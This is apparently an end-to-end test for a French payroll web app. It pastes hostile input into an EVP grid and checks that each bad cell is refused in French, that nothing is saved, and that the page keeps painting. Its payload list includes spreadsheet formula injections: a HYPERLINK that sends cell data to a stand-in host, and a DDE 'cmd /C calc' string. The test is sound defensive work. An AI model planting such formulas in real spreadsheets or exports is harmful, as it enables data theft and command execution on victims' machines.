/**
 * Hostile paste into the EVP grid of the 250-employee dossier: spreadsheet formulas (`=HYPERLINK(…)`, `+cmd|…`,
 * `@SUM`), control characters, a 1 MB cell, and a block of thousands of rows. The paste finishes, every bad cell
 * shows its French error, nothing is saved from garbage, and the page stays responsive: a requestAnimationFrame
 * heartbeat keeps ticking while the paste is processed (no wall-clock threshold).
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { z } from 'zod'
import { startWorkstation, type Workstation } from './harness/app'
import { readStateCounts } from './page-data'
import { BIG_SIREN, pasteText, testIdSuffixes, until } from './support'

let ws: Workstation

beforeAll(async () => {
  ws = await startWorkstation()
})
afterAll(async () => {
  await ws.close()
})

/** Frames painted so far by the heartbeat installed in the page. */
async function beats(): Promise<number> {
  return z.number().parse(await ws.page.evaluate('globalThis.__beats ?? 0'))
}

async function savedEntries(): Promise<number> {
  const counts = await readStateCounts(ws.page)
  return Object.values(counts).reduce((a, b) => a + b, 0)
}

const GARBAGE = [
  '=HYPERLINK("http://exemple.invalid/vol?d="&A1;"Cliquez")',
  "+cmd|' /C calc'!A0",
  '@SUM(A1:A9)',
  '-2+3+cmd|x',
  '=1+1',
  '3\u00005',
  '\u0007\u001b[31m',
  '1,5\u0085',
  'x'.repeat(1_000_000),
  '9'.repeat(1_000_000),
]

describe('hostile paste into the EVP grid', () => {
  it('refuses formulas, control characters and huge cells cell by cell, in French, saving nothing, without freezing', async () => {
    const page = ws.page
    await page.click('[data-testid="refresh-reference"]')
    await page.waitForSelector(`[data-testid="dossier-row-${BIG_SIREN}"]`, { timeout: 60_000 })
    const base = page.url().split('#')[0]
    await page.goto(`${base}#/dossiers/${BIG_SIREN}/evp`)
    await page.waitForSelector('[data-testid="evp-grid"]')
    await page.evaluate('globalThis.__beats = 0; (function tick() { globalThis.__beats++; requestAnimationFrame(tick) })()')
    const rows = await testIdSuffixes(page, 'row-')
    const cols = await testIdSuffixes(page, 'col-')

    // One garbage cell per row, in the first column (a quantity or amount column).
    await page.click(`[data-testid="cell-${rows[0]}-${cols[0]}"]`)
    const before = await beats()
    await pasteText(page, GARBAGE.map((g) => `"${g.replace(/"/g, '""')}"`).join('\r\n'))
    await until('paste message', async () => (await page.locator('[data-testid="paste-message"]').count()) > 0, 60_000)
    expect(await beats()).toBeGreaterThan(before)
    const message = (await page.locator('[data-testid="paste-message"]').textContent()) ?? ''
    expect(message).toContain(`${GARBAGE.length} en erreur`)
    for (const [i, matricule] of rows.slice(0, GARBAGE.length).entries()) {
      const error = (await page.locator(`[data-testid="grid-error-${matricule}-${cols[0]}"]`).textContent()) ?? ''
      const huge = (GARBAGE[i] ?? '').length > 1_000
      expect(error).toMatch(
        huge ? /Cellule trop longue : 1[\s\u202f]?000 caractères au plus/ : /Formule refusée|Caractère de contrôle refusé/,
      )
      // A huge cell keeps only its start on screen (the page does not carry a megabyte per cell).
      const shown = (await page.locator(`[data-testid="cell-${matricule}-${cols[0]}"]`).textContent()) ?? ''
      expect(shown.length).toBeLessThan(100)
    }
    expect(await savedEntries()).toBe(0)

    // Thousands of rows: refused as a whole with a French message; nothing saved; the page still paints.
    const huge = Array.from({ length: 5_000 }, (_, i) => `${(i % 9) + 1},5\t=cmd|x\t\u0000`).join('\r\n')
    const beforeHuge = await beats()
    await pasteText(page, huge)
    await until(
      'refusal message',
      async () => /Collage refusé/.test((await page.locator('[data-testid="paste-message"]').textContent()) ?? ''),
      60_000,
    )
    expect(await beats()).toBeGreaterThan(beforeHuge)
    expect((await page.locator('[data-testid="paste-message"]').textContent()) ?? '').toMatch(/lignes|cellules/)
    expect(await savedEntries()).toBe(0)

    // The grid still works: a sound value pasted next is saved.
    await page.click(`[data-testid="cell-${rows[GARBAGE.length + 1]}-${cols[0]}"]`)
    await pasteText(page, '2,5\r\n')
    await until('sound value saved', async () => (await savedEntries()) === 1, 30_000)
    await ws.screenshot('hostile-paste')
  })
})
